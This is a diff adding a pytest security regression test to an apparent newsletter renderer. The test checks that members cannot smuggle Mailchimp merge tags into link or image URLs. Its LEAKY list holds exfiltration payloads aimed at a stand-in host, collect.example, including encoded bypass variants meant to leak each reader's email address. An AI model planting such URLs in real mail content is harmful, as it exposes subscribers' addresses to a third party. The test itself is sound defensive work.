@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import datetime as dt
 import re
 from html.parser import HTMLParser
@@ -229,6 +230,33 @@ def test_members_cannot_inject_mailchimp_merge_tags():
         footer = {"UNSUB", "UPDATE_PROFILE", "LIST:ADDRESSLINE", "PREFS_URL", "IF:PREFS_URL"}
         assert tags <= footer | {"ELSE:", "END:IF"}, tags
     assert "Mail me at" in rendered.html and "news" in rendered.text
+
+
+LEAKY = [
+    "https://collect.example/p?e=*|EMAIL|*",
+    "https://collect.example/p?e=*%7CEMAIL%7C*",
+    "https://collect.example/p?e=*%257CEMAIL%257C*",
+    "https://collect.example/p?e=*&#124;EMAIL&#124;*",
+    "https://collect.example/*|UNIQID|*.png",
+]
+
+
+@pytest.mark.parametrize("url", LEAKY)
+def test_a_members_link_or_image_with_a_merge_tag_never_reaches_the_campaign(url: str) -> None:
+    """Security finding (issue 16): *|EMAIL|* in a member's link or image address would
+    send every reader's address to the submitter's server when the e-mail opens."""
+    content = content_with(f'<p>See <a href="{url}">this</a></p>', title="Forum")
+    [section] = content.sections
+    [entry] = section.entries
+    leaky_entry = dataclasses.replace(entry, link=url, image_url=url)
+    content = dataclasses.replace(content, sections=(Section("members", (leaky_entry,)),))
+    rendered = render_edition(content)
+    for part in (rendered.html, rendered.text):
+        assert "collect.example" not in part
+        tags = set(re.findall(r"\*\|([^|*]+)\|\*", part))
+        footer = {"UNSUB", "UPDATE_PROFILE", "LIST:ADDRESSLINE", "PREFS_URL", "IF:PREFS_URL"}
+        assert tags <= footer | {"ELSE:", "END:IF"}, tags
+    assert "Forum" in rendered.html and "this" in rendered.html
 
 
 def test_relative_links_in_summaries_are_resolved_against_the_items_link():
